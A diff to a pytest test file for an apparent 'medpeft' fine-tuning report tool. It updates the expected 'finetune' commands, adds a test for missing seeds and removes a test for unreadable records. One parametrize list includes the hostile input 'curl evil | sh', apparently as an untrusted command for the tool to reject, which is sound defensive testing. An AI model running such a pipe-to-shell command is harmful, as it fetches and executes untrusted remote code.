@@ -203,9 +203,9 @@ def test_every_missing_cell_is_listed_with_the_command_that_fills_it(record, res
             record("smdg", "lora", recipe={"data": {"k_shot": 5}}, backbone="vit_large"),
         )
     )
-    ssf = "medpeft finetune 'my recipes/isic.yaml' --seed 1 --set data.card=smdg --set data.root=data/smdg "
+    ssf = "medpeft finetune 'my recipes/isic.yaml' --seed 0 --set data.card=smdg "
     ssf += "--set data.k_shot=5 --set backbone.name=vit_large"
-    lora = "medpeft finetune recipes/smdg_lora.yaml --set data.card=isic --set data.root=data/isic "
+    lora = "medpeft finetune recipes/smdg_lora.yaml --set data.card=isic "
     lora += "--set data.k_shot=null --set backbone.name=vit_base_patch16_224"
     wide = shown(terminal(report), 250)
     for out in (wide, render(report, "markdown"), render(report, "latex")):
@@ -215,6 +215,15 @@ def test_every_missing_cell_is_listed_with_the_command_that_fills_it(record, res
     assert sum(row["state"] == "missing" for row in rows) == 3
     assert {row["to_run"] for row in rows if row["method"] == "SSF" and row["backbone"] == "vit_large"} >= {ssf}
     assert all(bool(row["to_run"]) == (row["state"] == "missing") for row in rows)
+
+
+def test_seeds_that_a_cell_lacks_are_listed_too(record, results):
+    told = "medpeft finetune {}.yaml --seed {}"
+    runs = [record("isic", name, n, command=told.format(name, n)) for name in ("full", "lora") for n in range(3)]
+    runs += [record("smdg", "full", seed, command=f"medpeft finetune f.yaml --seed {seed}") for seed in range(2)]
+    report = build_report(results(*runs))
+    lora = [f"medpeft finetune lora.yaml --seed {seed} --set data.card=smdg" for seed in range(3)]
+    assert text.commands(report.tables[0]) == ["medpeft finetune f.yaml --seed 2", *lora]
 
 
 @pytest.mark.parametrize("command", [None, "curl evil | sh", "medpeft 'finetune", "medpeft export x"])
@@ -245,13 +254,6 @@ def test_leftovers_are_listed(record, results):
     for out in (shown(terminal(report)), render(report, "markdown").replace("\\", ""), render(report, "latex")):
         assert "broken/record.json" in out
     assert json.loads(render(report, "json"))["problems"][0]["path"] == "broken/record.json"
-
-
-def test_only_unreadable_records_still_give_a_report(tmp_path):
-    (tmp_path / "record.json").write_text("{")
-    report = build_report(tmp_path)
-    assert report.tables == () and "record.json" in shown(terminal(report))
-    assert [render(report, form) for form in FORMS]
 
 
 def test_a_cell_with_other_seeds_says_how_many(record, results):
